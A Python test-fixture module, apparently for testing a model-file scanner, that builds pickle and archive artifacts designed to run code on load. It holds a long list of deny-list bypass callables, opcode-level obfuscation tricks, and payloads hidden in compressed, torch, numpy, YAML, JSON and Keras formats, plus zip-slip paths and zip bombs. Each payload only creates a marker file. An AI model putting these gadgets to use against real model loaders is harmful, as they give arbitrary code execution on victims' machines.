"""Artifacts that would run something when loaded. Every payload only makes an empty file; nothing here runs it.

`build(folder, marker)` writes a model folder. Pickles are put together opcode by opcode, a trick each.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import textwrap
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple


class Gadget(NamedTuple):
    """`loads`: whether `pickle.load` of model.pkl alone runs the payload, as a test proves in a process of its own."""

    name: str
    build: Callable[[Path, Path], None]
    loads: bool = False


ALL: list[Gadget] = []


# Pickles, opcode by opcode.


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def text(value: str) -> bytes:
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def call(function: bytes, *args: bytes) -> bytes:
    return function + b"(" + b"".join(args) + b"tR"


def touch(marker: Path) -> str:
    return f"touch {marker}"


def python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def payload(marker: Path) -> bytes:
    return call(named("os", "system"), text(touch(marker)))


# Folders around them.


def sklearn(folder: Path, pickled: bytes, form: str = "pickle", name: str = "model.pkl") -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(pickled)
    mlmodel(folder, {"sklearn": {"pickled_model": name, "serialization_format": form, "code": None}})


def mlmodel(folder: Path, flavours: dict[str, Any]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "MLmodel").write_text(json.dumps({"flavors": flavours}))


def harmless(folder: Path) -> None:
    """A model that is fine, for what is put beside it."""
    sklearn(folder, pickle.dumps({"weights": [1.0, 2.0]}))


def gadget(build: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
    ALL.append(Gadget(build.__name__, build))
    return build


def pickled(make: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    """A gadget in a plain pickle that pickle.load would run."""
    ALL.append(Gadget(make.__name__, lambda folder, marker: sklearn(folder, make(marker)), loads=True))
    return make


def unproven(make: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    """A plain pickle that needs another loader, another library, or does its harm later."""
    ALL.append(Gadget(make.__name__, lambda folder, marker: sklearn(folder, make(marker))))
    return make


# Callables that run a command or a text: the public bypasses of deny-lists, and their relatives.

#: module, name, arguments ("!" the command, "%" the Python text, the rest as it is)
CALLABLES: list[tuple[str, str, list[Any]]] = [
    ("os", "system", ["!"]),
    ("posix", "system", ["!"]),
    ("os", "popen", ["!"]),
    ("subprocess", "Popen", ["!", -1, None, None, None, None, None, True, True]),
    ("subprocess", "getoutput", ["!"]),
    ("subprocess", "getstatusoutput", ["!"]),
    ("commands", "getoutput", ["!"]),
    ("builtins", "eval", ["%"]),
    ("builtins", "exec", ["%"]),
    ("__builtin__", "eval", ["%"]),
    ("timeit", "timeit", ["pass", "%"]),
    ("timeit", "main", [["-n", "1", "%"]]),
    ("cProfile", "run", ["%"]),
    ("profile", "run", ["%"]),
    ("pdb", "run", ["%"]),
    ("bdb", "Bdb.run", ["%"]),
    ("trace", "Trace.run", ["%"]),
    ("code", "interact", []),
    ("code", "InteractiveInterpreter", []),
    ("codeop", "compile_command", ["%"]),
    ("runpy", "run_path", ["/tmp/absent.py"]),
    ("runpy", "_run_code", ["%", {}]),
    ("importlib", "import_module", ["antigravity"]),
    ("importlib._bootstrap", "_gcd_import", ["antigravity"]),
    ("pkgutil", "resolve_name", ["os:system"]),
    ("pydoc", "locate", ["os.system"]),
    ("pydoc", "pipepager", ["text", "!"]),
    ("pydoc", "tempfilepager", ["text", "!"]),
    ("pty", "spawn", ["!"]),
    ("ctypes", "CDLL", ["libc.so.6"]),
    ("_ctypes", "dlopen", ["libc.so.6", 2]),
    ("webbrowser", "open", ["file:///etc/passwd"]),
    ("shutil", "rmtree", ["/tmp/absent"]),
    ("shutil", "copyfile", ["/etc/passwd", "/tmp/absent"]),
    ("os", "remove", ["/tmp/absent"]),
    ("os", "execvp", ["touch", ["touch", "x"]]),
    ("os", "posix_spawn", ["/bin/true", [], {}]),
    ("socket", "create_connection", [["192.0.2.1", 80]]),
    ("urllib.request", "urlopen", ["http://192.0.2.1/"]),
    ("http.client", "HTTPConnection", ["192.0.2.1"]),
    ("smtplib", "SMTP", ["192.0.2.1"]),
    ("ftplib", "FTP", ["192.0.2.1"]),
    ("requests", "get", ["http://192.0.2.1/"]),
    ("asyncio.base_events", "BaseEventLoop.subprocess_shell", ["!"]),
    ("multiprocessing.util", "spawnv_passfds", [b"/bin/true", [], []]),
    ("distutils.spawn", "spawn", [["true"]]),
    ("ensurepip._bootstrap", "_run_pip", [[]]),
    ("lib2to3.pgen2.grammar", "Grammar.loads", [b"\x80\x04."]),
    ("logging.config", "_resolve", ["os.system"]),
    ("unittest.mock", "_importer", ["os.system"]),
    ("doctest", "debug_script", ["%"]),
    ("test.support.script_helper", "run_python_until_end", ["-c", "%"]),
    ("idlelib.calltip", "get_entity", ["%"]),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ["%"]),
    ("uuid", "_get_command_stdout", ["touch", "x"]),
    ("platform", "popen", ["!"]),
    ("site", "execsitecustomize", []),
    ("sqlite3", "connect", ["/tmp/absent.db"]),
    ("shelve", "open", ["/tmp/absent"]),
    ("tempfile", "mktemp", []),
    ("linecache", "getline", ["/etc/passwd", 1]),
    ("fileinput", "input", ["/etc/passwd"]),
    ("io", "open", ["/etc/passwd"]),
    ("_io", "FileIO", ["/tmp/absent", "w"]),
    ("pathlib", "Path.unlink", ["/tmp/absent"]),
    ("builtins", "open", ["/etc/passwd"]),
    ("builtins", "__import__", ["antigravity"]),
    ("builtins", "getattr", ["x", "__class__"]),
    ("builtins", "compile", ["%", "x", "exec"]),
    ("builtins", "breakpoint", []),
    ("builtins", "map", [["x"], ["y"]]),
    ("builtins", "vars", []),
    ("operator", "attrgetter", ["__class__"]),
    ("operator", "methodcaller", ["__class__"]),
    ("operator", "itemgetter", [0]),
    ("_operator", "attrgetter", ["system"]),
    ("functools", "partial", [["x"], "y"]),
    ("functools", "reduce", [["x"], ["y"]]),
    ("itertools", "starmap", [["x"], ["y"]]),
    ("types", "CodeType", [0]),
    ("types", "FunctionType", [0]),
    ("marshal", "loads", [b"N"]),
    ("pickle", "loads", [b"\x80\x04N."]),
    ("_pickle", "loads", [b"\x80\x04N."]),
    ("dill", "loads", [b"\x80\x04N."]),
    ("cloudpickle", "loads", [b"\x80\x04N."]),
    ("joblib", "load", ["/tmp/absent"]),
    ("joblib.numpy_pickle", "load", ["/tmp/absent"]),
    ("numpy", "load", ["/tmp/absent"]),
    ("numpy", "fromfile", ["/etc/passwd"]),
    ("numpy", "memmap", ["/tmp/absent", "uint8", "w+", 0, [1]]),
    ("numpy", "DataSource.open", ["/etc/passwd"]),
    ("numpy.testing._private.utils", "runstring", ["%", {}]),
    ("numpy.testing._private.utils", "measure", ["%"]),
    ("numpy.f2py.crackfortran", "getlincoef", ["%", {}]),
    ("numpy.f2py.crackfortran", "param_eval", ["%", {}, {}]),
    ("numpy.f2py.diagnose", "run_command", ["!"]),
    ("numpy.distutils.exec_command", "exec_command", ["!"]),
    ("numpy.core", "_ufunc_reconstruct", ["os", "system"]),
    ("numpy._core", "_ufunc_reconstruct", ["numpy", "load"]),
    ("pandas", "read_pickle", ["/tmp/absent"]),
    ("pandas", "eval", ["%"]),
    ("pandas.core.computation.eval", "eval", ["%"]),
    ("pandas.io.common", "get_handle", ["/etc/passwd", "r"]),
    ("scipy.io", "loadmat", ["/tmp/absent"]),
    ("scipy._lib._ccallback", "LowLevelCallable", [0]),
    ("sklearn.datasets", "load_files", ["/etc"]),
    ("sklearn.datasets._base", "_fetch_remote", ["x"]),
    ("sklearn.utils._testing", "assert_run_python_script_without_output", ["%"]),
    ("sklearn.externals.array_api_compat", "common", []),
    ("torch", "load", ["/tmp/absent"]),
    ("torch.hub", "load", ["x/y", "z"]),
    ("torch.storage", "_load_from_bytes", [b"x"]),
    ("torch.utils.collect_env", "run", ["!"]),
    ("torch.utils.bottleneck.__main__", "run_cprofile", ["%", {}]),
    ("torch.fx.graph_module", "reduce_graph_module", [{}, "%"]),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ["%", {}, {}]),
    ("torch._inductor.codecache", "compile_file", ["x", "y", "z"]),
    ("mlflow.pyfunc", "load_model", ["/tmp/absent"]),
    ("yaml", "unsafe_load", ["!!python/object/apply:os.system [true]"]),
    ("jsonpickle", "decode", ["{}"]),
    ("nltk.app.chunkparser_app", "app", []),
    ("statsmodels.formula.api", "ols", ["%"]),
    ("patsy.eval", "EvalEnvironment.eval", ["%"]),
    ("__main__", "anything", []),
    ("mymodule.that.the.attacker.hopes.for", "function", []),
]
#: Those of the above that run their payload with what every environment has.
_LIVE = {
    *(("os", "system"), ("posix", "system"), ("subprocess", "getoutput"), ("subprocess", "getstatusoutput")),
    *(("builtins", "eval"), ("builtins", "exec"), ("__builtin__", "eval"), ("timeit", "timeit"), ("timeit", "main")),
    *(("cProfile", "run"), ("profile", "run"), ("numpy.testing._private.utils", "runstring"), ("os", "popen")),
    *(("numpy.f2py.crackfortran", "getlincoef"), ("pydoc", "pipepager"), ("pydoc", "tempfilepager")),
    *(("subprocess", "Popen"), ("idlelib.calltip", "get_entity"), ("runpy", "_run_code")),
}


def _filled(value: Any, marker: Path) -> Any:
    if isinstance(value, list):
        return tuple(_filled(one, marker) for one in value)
    return {"!": touch(marker), "%": python(marker)}.get(value, value) if isinstance(value, str) else value


def _arguments(values: list[Any], marker: Path) -> bytes:
    """The arguments as a tuple on the stack, without the pickle's frame around them."""
    made = pickle.dumps(_filled(values, marker), protocol=2)
    return made[2:-1]


def _callable(module: str, name: str, values: list[Any]) -> None:
    def build(folder: Path, marker: Path) -> None:
        function = stacked(module, name) if "." in name else named(module, name)
        head = b"\x80\x04" if "." in name else b""
        sklearn(folder, head + function + _arguments(values, marker) + b"R.")

    ALL.append(Gadget(f"{module}:{name}", build, (module, name) in _LIVE))


for _module, _name, _values in CALLABLES:
    _callable(_module, _name, _values)


# Tricks with opcodes.


@pickled
def inst(marker: Path) -> bytes:
    return b"(" + text(touch(marker)) + b"ios\nsystem\n."


@pickled
def obj(marker: Path) -> bytes:
    return b"(" + named("os", "system") + text(touch(marker)) + b"o."


@pickled
def stack_global_by_memo(marker: Path) -> bytes:
    return (
        b"\x80\x04"
        + text("os")
        + b"\x940"
        + text("system")
        + b"\x940"
        + b"h\x00h\x01\x93"
        + b"("
        + text(touch(marker))
        + b"tR."
    )


@pickled
def stack_global_by_dup(marker: Path) -> bytes:
    return b"\x80\x04" + text("os") + b"2" + b"0" + text("system") + b"\x93(" + text(touch(marker)) + b"tR."


@pickled
def name_in_escapes(marker: Path) -> bytes:
    return b"\x80\x04V\\u006f\\u0073\nV\\u0073ystem\n\x93(" + text(touch(marker)) + b"tR."


@pickled
def name_in_a_byte_string(marker: Path) -> bytes:
    return b"\x80\x04S'\\x6fs'\nU\x06system\x93(" + text(touch(marker)) + b"tR."


@pickled
def name_of_python_2(marker: Path) -> bytes:
    return call(named("__builtin__", "eval"), text(python(marker))) + b"."


@pickled
def name_through_dots(marker: Path) -> bytes:
    return b"\x80\x04" + call(stacked("pathlib", "os.system"), text(touch(marker))) + b"."


@pickled
def name_through_an_allowed_module(marker: Path) -> bytes:
    return (
        b"\x80\x04"
        + call(stacked("sklearn.base", "warnings.sys.modules.get"), text("os"))
        + b"0"
        + payload(marker)
        + b"."
    )


@pickled
def new_object_of_a_process(marker: Path) -> bytes:
    keywords = b"}(" + text("shell") + b"\x88u"
    return (
        b"\x80\x04"
        + named("subprocess", "Popen")
        + b"("
        + text(touch(marker))
        + b"t"
        + keywords
        + b"\x92"
        + b"0"
        + (payload(marker))
        + b"."
    )


@unproven
def extension_code_1(marker: Path) -> bytes:
    return b"\x80\x02\x82\x01(" + text(touch(marker)) + b"tR."


@unproven
def extension_code_4(marker: Path) -> bytes:
    return b"\x80\x02\x84\x01\x00\x00\x00(" + text(touch(marker)) + b"tR."


@pickled
def broken_after_the_payload(marker: Path) -> bytes:
    return payload(marker) + b"\xff\xff\xff not a pickle any more"


@pickled
def no_end(marker: Path) -> bytes:
    return payload(marker)


@pickled
def bytes_after_the_end(marker: Path) -> bytes:
    return payload(marker) + b"." + b"\0" * 100


@pickled
def payload_popped_again(marker: Path) -> bytes:
    return b"\x80\x04" + payload(marker) + b"0N."


@pickled
def payload_hidden_in_a_mark(marker: Path) -> bytes:
    return b"\x80\x04(" + payload(marker) + b"1N."


@pickled
def payload_in_a_long_list(marker: Path) -> bytes:
    return b"\x80\x04](" + b"K\x01" * 5000 + payload(marker) + b"e."


@pickled
def payload_as_a_dictionary_key(marker: Path) -> bytes:
    return b"\x80\x04}(" + payload(marker) + b"K\x01u."


@pickled
def pickle_in_pickle(marker: Path) -> bytes:
    return b"\x80\x04" + call(named("pickle", "loads"), raw(b"\x80\x04" + payload(marker) + b".")) + b"."


@unproven
def pickle_in_bytes_that_something_may_load(marker: Path) -> bytes:
    return pickle.dumps({"extra": b"\x80\x04" + payload(marker) + b"."})


@pickled
def attribute_chain(marker: Path) -> bytes:
    module = call(named("builtins", "__import__"), text("os"))
    return b"\x80\x04" + call(call(named("builtins", "getattr"), module, text("system")), text(touch(marker))) + b"."


@pickled
def method_caller(marker: Path) -> bytes:
    module = call(named("importlib", "import_module"), text("os"))
    getter = call(named("operator", "methodcaller"), text("system"), text(touch(marker)))
    return b"\x80\x04" + call(getter, module) + b"."


@pickled
def partial(marker: Path) -> bytes:
    made = call(named("functools", "partial"), named("os", "system"), text(touch(marker)))
    return b"\x80\x04" + made + b")R."


@pickled
def map_over_commands(marker: Path) -> bytes:
    lazy = call(named("builtins", "map"), named("os", "system"), b"](" + text(touch(marker)) + b"e")
    return b"\x80\x04" + call(named("builtins", "list"), lazy) + b"."


@pickled
def factory_of_a_dictionary(marker: Path) -> bytes:
    """collections.Counter counts what a map gives, and the map calls."""
    lazy = call(named("builtins", "map"), named("os", "system"), b"](" + text(touch(marker)) + b"e")
    return b"\x80\x04" + call(named("collections", "Counter"), lazy) + b"."


@unproven
def default_factory(marker: Path) -> bytes:
    return b"\x80\x04" + call(named("collections", "defaultdict"), named("os", "getcwd")) + b"."


@unproven
def transformer_around_a_command(marker: Path) -> bytes:
    made = named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81"
    return b"\x80\x04" + made + b"}(" + text("func") + named("os", "system") + b"ub."


@pickled
def build_that_replaces_setstate(marker: Path) -> bytes:
    made = named("sklearn.dummy", "DummyClassifier") + b")\x81"
    first = b"}(" + text("__setstate__") + named("os", "system") + b"ub"
    return b"\x80\x04" + made + first + text(touch(marker)) + b"b."


@unproven
def build_with_a_listed_function_as_setstate(marker: Path) -> bytes:
    made = named("types", "SimpleNamespace") + b")R"
    state = b"}(" + text("__setstate__") + named("sklearn.metrics._classification", "accuracy_score") + b"ub"
    return b"\x80\x04" + made + state + text("x") + b"b."


@unproven
def build_on_a_class(marker: Path) -> bytes:
    state = b"N}(" + text("__init__") + named("os", "system") + b"u\x86"
    return b"\x80\x04" + named("sklearn.dummy", "DummyClassifier") + state + b"b."


@unproven
def build_that_changes_the_class(marker: Path) -> bytes:
    made = named("sklearn.dummy", "DummyClassifier") + b")\x81"
    state = b"N}(" + text("__class__") + named("sklearn.tree._classes", "DecisionTreeClassifier") + b"u\x86"
    return b"\x80\x04" + made + state + b"b."


@unproven
def append_that_calls(marker: Path) -> bytes:
    made = named("types", "SimpleNamespace") + b")R"
    state = b"}(" + text("append") + named("sklearn.metrics._classification", "accuracy_score") + b"ub"
    return b"\x80\x04" + made + state + text("x") + b"a."


@unproven
def container_whose_items_are_attributes(marker: Path) -> bytes:
    made = named("scipy.optimize._optimize", "OptimizeResult") + b")R"
    items = b"(" + text("__setstate__") + named("sklearn.metrics._classification", "accuracy_score") + b"u"
    return b"\x80\x04" + made + items + text("x") + b"b."


@unproven
def reconstructor_of_a_process(marker: Path) -> bytes:
    args = named("subprocess", "Popen") + named("builtins", "object") + b"N"
    return b"\x80\x04" + call(named("copyreg", "_reconstructor"), args) + b"."


@unproven
def reconstructor_with_another_base(marker: Path) -> bytes:
    made = named("sklearn.dummy", "DummyClassifier")
    return b"\x80\x04" + call(named("copyreg", "_reconstructor"), made, made, b"N") + b"."


@unproven
def class_out_of_type(marker: Path) -> bytes:
    return b"\x80\x04" + call(named("builtins", "type"), text("X"), b")", b"}") + b"."


@unproven
def codec_that_imports(marker: Path) -> bytes:
    return b"\x80\x04" + call(named("_codecs", "encode"), text("x"), text("rot13")) + b"."


@unproven
def outside_object(marker: Path) -> bytes:
    return b"\x80\x04" + text("anything") + b"Q."


@unproven
def outside_object_of_another_kind(marker: Path) -> bytes:
    return b"Panything\n."


@unproven
def out_of_band_buffer(marker: Path) -> bytes:
    return b"\x80\x05\x97."


@unproven
def function_that_is_no_class(marker: Path) -> bytes:
    return b"\x80\x04" + call(named("sklearn.metrics._classification", "accuracy_score"), b")", b")") + b"."


@unproven
def unicode_name(marker: Path) -> bytes:
    return b"\x80\x04" + call(stacked("ｏｓ", "system"), text(touch(marker))) + b"."


@unproven
def name_with_a_line_feed(marker: Path) -> bytes:
    return b"\x80\x04" + call(stacked("os\n", "system"), text(touch(marker))) + b"."


@unproven
def computed_name(marker: Path) -> bytes:
    module = call(named("builtins", "str"), raw(b"os"), text("ascii"))
    return b"\x80\x04" + module + text("system") + b"\x93(" + text(touch(marker)) + b"tR."


@pickled
def distribution_with_a_parser(marker: Path) -> bytes:
    """scipy's distributions execute a text of their state."""
    state = b"}(" + text("_parse_arg_template") + text(python(marker)) + text("shapes") + b"Nu"
    made = named("scipy.stats._continuous_distns", "norm_gen") + b")\x81"
    return b"\x80\x04" + made + state + b"b."


@unproven
def formula_that_calls(marker: Path) -> bytes:
    """statsmodels evaluates the formula of its state."""
    state = b"}(" + text("restore_design_info") + b"\x88" + text("restore_model_spec") + b"\x88"
    state += text("formula") + text(f"y ~ __import__('os').system({touch(marker)!r})") + b"u"
    return b"\x80\x04" + named("statsmodels.base.data", "PandasData") + b")\x81" + state + b"b."


@unproven
def function_by_value(marker: Path) -> bytes:
    import cloudpickle

    where = str(marker)
    return cloudpickle.dumps(lambda: Path(where).touch())  # type: ignore[no-any-return]


@unproven
def damaged(marker: Path) -> bytes:
    return pickle.dumps(list(range(1000)))[:-20]


@unproven
def no_pickle_at_all(marker: Path) -> bytes:
    return b"hello, I am a model"


@unproven
def empty(marker: Path) -> bytes:
    return b""


# Formats around pickles.


def _beside(name: str, content: Callable[[bytes], bytes]) -> None:
    """A harmless model with one more file, in which a payload is packed."""

    def build(folder: Path, marker: Path) -> None:
        harmless(folder)
        (folder / name).write_bytes(content(b"\x80\x04" + payload(marker) + b"."))

    ALL.append(Gadget(f"beside:{name}", build))


def zipped(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return stream.getvalue()


def tarred(name: str, content: bytes, link: str = "") -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        info = tarfile.TarInfo(name)
        if link:
            info.type, info.linkname = tarfile.SYMTYPE, link
            archive.addfile(info)
        else:
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def npy(content: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (117 - len(header)) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


_VERSION = ("model/version", b"3\n")
_beside("weights.pkl", lambda p: p)
_beside("weights.json", lambda p: p)
_beside("notes.txt", lambda p: p[2:])
_beside("protocol_0.txt", lambda p: b"cos\nsystem\n(S'true'\ntR.")
_beside("protocol_0.json", lambda p: b"cos\nsystem\n(S'true'\ntR.")
_beside("model.ubj", lambda p: p)
_beside("model.safetensors", lambda p: p)
_beside("model.onnx", lambda p: p)
_beside("no_suffix", lambda p: p)
_beside("image.png", lambda p: p[2:-1] + b"\0\xff")
_beside("squeezed.pkl.gz", gzip.compress)
_beside("squeezed.joblib", zlib.compress)
_beside("squeezed.bz2", bz2.compress)
_beside("squeezed.xz", lzma.compress)
_beside("squeezed.lzma", lambda p: lzma.compress(p, lzma.FORMAT_ALONE))
_beside("squeezed_twice.gz", lambda p: gzip.compress(bz2.compress(p)))
_beside("objects.npy", npy)
_beside("objects.npz", lambda p: zipped([("a.npy", npy(p))]))
_beside("torch.pt", lambda p: zipped([("model/data.pkl", p), _VERSION]))
_beside("torch_deflated.pt", lambda p: zipped([("model/data.pkl", p), _VERSION], zipfile.ZIP_DEFLATED))
_beside("torch_in_zip.zip", lambda p: zipped([("inner.pt", zipped([("model/data.pkl", p), _VERSION]))]))
_beside("other_name_in_torch.pt", lambda p: zipped([("model/data.pkl", b"\x80\x02N."), ("model/extra.bin", p)]))
_beside("torch_script.pt", lambda p: zipped([("m/data.pkl", b"\x80\x02N."), ("m/code/__torch__.py", b"def f(): pass")]))
_beside(
    "old_torch.pt", lambda p: pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + p
)
_beside("archive.tar", lambda p: tarred("inner.pkl", p))
_beside("archive.tar.gz", lambda p: gzip.compress(tarred("inner.pkl", p)))
_beside("link.tar", lambda p: tarred("inner", b"", "/etc/passwd"))
_beside("leaves.tar", lambda p: tarred("../../inner.txt", b"x"))
_beside("leaves.zip", lambda p: zipped([("../../inner.txt", b"x")]))
_beside("absolute.zip", lambda p: zipped([("/etc/cron.d/x", b"x")]))
_beside("archive.7z", lambda p: b"7z\xbc\xaf\x27\x1c" + p)
_beside("archive.rar", lambda p: b"Rar!\x1a\x07" + p)
_beside("code_in.zip", lambda p: zipped([("package/__init__.py", b"import os")]))
_beside("package.whl", lambda p: zipped([("package/__init__.py", b"import os")]))
_beside("before.zip", lambda p: p + zipped([("a.txt", b"x")]))
_beside("before_named.pkl", lambda p: p + zipped([("model/data.pkl", b"\x80\x02N."), _VERSION]))
_beside("after.zip", lambda p: zipped([("a.txt", b"x")]) + p)
_beside("library.so", lambda p: b"\x7fELF" + p)
_beside("library.bin", lambda p: b"\x7fELF\x02\x01\x01" + bytes(100))
_beside("compiled.pyc", lambda p: b"\xa7\x0d\x0d\x0a" + bytes(12) + p)
_beside("script.py", lambda p: b"import os")
_beside("script", lambda p: b"#!/bin/sh\ntrue\n")
_beside("unknown.bin", lambda p: b"\xfe\xfe\xfe" + bytes(50))
_beside("settings.yaml", lambda p: b"a: !!python/object/apply:os.system ['true']\n")
_beside("tagged.yaml", lambda p: b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']\n")
_beside("registered_model_meta", lambda p: b"a: !!python/object/apply:os.system ['true']\n")
_beside("named_as.txt", lambda p: b"a: !!python/name:os.system\n")
_beside("object.json", lambda p: b'{"py/object": "os.system"}')
_beside("reduce.json", lambda p: b'{"\\u0070y/reduce": [{"py/function": "os.system"}, ["true"]]}')
_beside("config.json", lambda p: b'{"auto_map": {"AutoModel": "modeling.Model"}}')
_beside("layers.json", lambda p: json.dumps(keras("Lambda", "keras.layers")).encode())
_beside("modules.json", lambda p: json.dumps(keras("function", "builtins", "system")).encode())
_beside("imports.json", lambda p: json.dumps(keras("system", "os")).encode())
_beside("get_file.json", lambda p: json.dumps(keras("get_file", "keras.utils")).encode())
_beside("lambda.keras", lambda p: zipped([("config.json", json.dumps(keras("Lambda", "keras.layers")).encode())]))
_beside("weights.h5", lambda p: b"\x89HDF\r\n\x1a\n" + b'{"class_name": "Lambda"}')


def _graph(**more: Any) -> dict[str, Any]:
    node = {"target": "torch.ops.aten.relu.default", "inputs": [], "outputs": [], "metadata": {}}
    return {"graph_module": {"graph": {"nodes": [node | more.pop("node", {})], **more.pop("graph", {})}, **more}}


def _exported(name: str, graph: dict[str, Any], *more: tuple[str, bytes], weight: Any = None) -> None:
    """A model as torch.export saves it."""
    entry = {"path_name": "weight_0", "use_pickle": False} | (weight or {})
    members = [
        ("m/archive_format", b"pt2"),
        ("m/models/model.json", json.dumps(graph).encode()),
        ("m/data/weights/model_weights_config.json", json.dumps({"config": {"w": entry}}).encode()),
    ]
    raw = [] if any(path.endswith("weight_0") for path, _ in more) else [("m/data/weights/weight_0", bytes(8))]
    content = zipped([*members, *raw, *more])

    def build(folder: Path, marker: Path) -> None:
        (folder / "data").mkdir(parents=True)
        (folder / "data" / "model.pt2").write_bytes(content)
        mlmodel(folder, {"pytorch": {"model_data": "data"}})

    ALL.append(Gadget(f"export:{name}", build))


def _spec(kind: str, context: str = "[]") -> str:
    return json.dumps([1, {"type": kind, "context": context, "children_spec": []}])


_exported("operation", _graph(node={"target": "torch.hub.load"}))
_exported("operation_of_files", _graph(node={"target": "torch.ops.aten.from_file.default"}))
_exported("operation_beyond", _graph(node={"target": "_operator.methodcaller"}))
_exported("operation_registered", _graph(node={"target": "#custom:evil"}))
_exported("operator_as_argument", _graph(graph={"inputs": [{"as_operator": "torch.load"}]}))
_exported("size", _graph(graph={"sizes": [{"expr_str": "__import__('os').system('true')"}]}))
_exported("size_by_attributes", _graph(graph={"sizes": [{"expr_str": "s0.func"}]}))
_exported("shape_of_inputs", _graph(signature={"in_spec": _spec("collections.defaultdict")}))
_exported("shape_with_an_enum", _graph(signature={"out_spec": _spec("builtins.dict", '{"__enum__": true}')}))
_exported("object", _graph(graph={"inputs": [{"as_custom_obj": {"name": "x", "class_fqn": "x.Y"}}]}))
_exported("constant_that_is_no_tensor", _graph(), weight={"path_name": "opaque_obj_0"})
_pickled_weight = ("m/data/weights/weight_0", b"\x80\x04" + call(named("os", "system"), text("true")) + b".")
_exported("weights_in_a_pickle", _graph(), _pickled_weight, weight={"use_pickle": True})
_exported("weights_that_are_not_listed", _graph(), ("m/data/weights/weight_1", b"\xfe" * 9))
_exported("compiled", _graph(), ("m/data/aotinductor/model/x.txt", b"x"))


def keras(name: str, module: str, config: Any = None) -> dict[str, Any]:
    return {
        "class_name": "Sequential",
        "config": {"layers": [{"class_name": name, "module": module, "config": config}]},
    }


@gadget
def two_members_of_one_name(folder: Path, marker: Path) -> None:
    import warnings

    harmless(folder)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        content = zipped([("m/data.pkl", b"\x80\x02N."), ("m/data.pkl", payload(marker) + b".")])
    (folder / "model.pt").write_bytes(content)


def _patched(content: bytes, old: bytes, new: bytes, last: bool = False) -> bytes:
    at = content.rfind(old) if last else content.find(old)
    return content[:at] + new + content[at + len(old) :]


@gadget
def other_name_in_the_local_header(folder: Path, marker: Path) -> None:
    harmless(folder)
    content = zipped([("m/data.pkl", b"\x80\x02N."), ("m/fata.txt", b"text")])
    (folder / "model.pt").write_bytes(_patched(content, b"m/fata.txt", b"m/data.pkl"))


@gadget
def other_method_in_the_local_header(folder: Path, marker: Path) -> None:
    harmless(folder)
    content = bytearray(zipped([("m/data.pkl", b"\x80\x02N.")]))
    content[8:10] = b"\x08\x00"
    (folder / "model.pt").write_bytes(content)


@gadget
def encrypted_bit(folder: Path, marker: Path) -> None:
    harmless(folder)
    content = bytearray(zipped([("m/data.pkl", b"\x80\x04" + payload(marker) + b".")]))
    directory = content.find(b"PK\x01\x02")
    content[6] |= 1
    content[directory + 8] |= 1
    (folder / "model.pt").write_bytes(content)


@gadget
def wrong_checksum(folder: Path, marker: Path) -> None:
    harmless(folder)
    content = zipped([("m/data.pkl", b"\x80\x04" + payload(marker) + b".")])
    (folder / "model.pt").write_bytes(_patched(content, b"touch", b"TOUCH"))


@gadget
def zip_bomb(folder: Path, marker: Path) -> None:
    harmless(folder)
    (folder / "zeros.zip").write_bytes(zipped([("zeros.txt", bytes(80 << 20))], zipfile.ZIP_DEFLATED))


@gadget
def compressed_bomb(folder: Path, marker: Path) -> None:
    harmless(folder)
    (folder / "zeros.xz").write_bytes(lzma.compress(bytes(80 << 20), preset=0))


@gadget
def archives_without_end(folder: Path, marker: Path) -> None:
    harmless(folder)
    content = b"\x80\x04" + payload(marker) + b"."
    for _ in range(12):
        content = zipped([("inner.zip", content)])
    (folder / "deep.zip").write_bytes(content)


def _wrapper(alignment: bytes, shape: int, body: bytes) -> bytes:
    """joblib's stand-in for an array of bytes, with what follows it in the file."""
    dtype = named("numpy", "dtype") + b"(" + text("u1") + b"\x89\x88tR(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xff"
    dtype += b"J\xff\xff\xff\xffK\x00tb"
    state = b"}(" + text("subclass") + named("numpy", "ndarray") + text("shape") + b"K" + bytes([shape]) + b"\x85"
    state += text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x88"
    state += text("numpy_array_alignment_bytes") + alignment + b"u"
    return b"\x80\x03" + named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + body


@gadget
def array_that_only_joblib_skips(folder: Path, marker: Path) -> None:
    """Numbers for joblib, opcodes for pickle."""
    body = payload(marker) + b"."
    sklearn(folder, _wrapper(b"N", len(body), body + b"."), name="model.joblib")
    mlmodel(folder, {"python_function": {"loader_module": "mlflow.sklearn", "model_path": "model.joblib"}})


@gadget
def array_in_the_middle_of_a_frame(folder: Path, marker: Path) -> None:
    """joblib's reader in Python goes on within the frame; one that does not know of frames skips the payload."""
    body = payload(marker) + b"0"
    stream = _wrapper(b"N", len(body), body)
